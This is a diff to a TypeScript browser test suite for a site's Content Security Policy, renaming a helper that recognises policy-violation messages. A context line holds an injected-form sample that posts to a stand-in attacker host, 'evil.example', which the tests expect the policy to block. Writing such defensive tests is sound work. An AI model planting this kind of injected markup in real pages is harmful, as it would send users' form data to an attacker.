@@ -16,8 +16,8 @@ const attacks: Record<string, string> = {
   'form-action': '<form id="stolen" action="https://evil.example/" method="post"></form>',
 }
 
-/** Whether a message of the browser reports a refusal, or the failure of a refused request. */
-const isRefusal = (line: string) =>
+/** Whether a message of the browser reports a violation of the policy, or a blocked request. */
+const isViolation = (line: string) =>
   /Content Security Policy|requires 'Trusted|^failed: .*(csp|net::ERR_BLOCKED)/i.test(line)
 
 /** Adds markup to the end of the served home page. */
@@ -55,7 +55,7 @@ test('the content policy refuses injected scripts, styles and addresses', async 
   await expect.poll(refused).toEqual(Object.keys(attacks).toSorted())
   expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
   expect(foreignRequests).toEqual([])
-  allowMessages(browserMessages, isRefusal)
+  allowMessages(browserMessages, isViolation)
 })
 
 test('no script can write HTML or load a script from a text', async ({ page, browserMessages }) => {
@@ -75,5 +75,5 @@ test('no script can write HTML or load a script from a text', async ({ page, bro
     })
   })
   expect(errors).toEqual(['TypeError', 'TypeError', 'TypeError'])
-  allowMessages(browserMessages, isRefusal)
+  allowMessages(browserMessages, isViolation)
 })
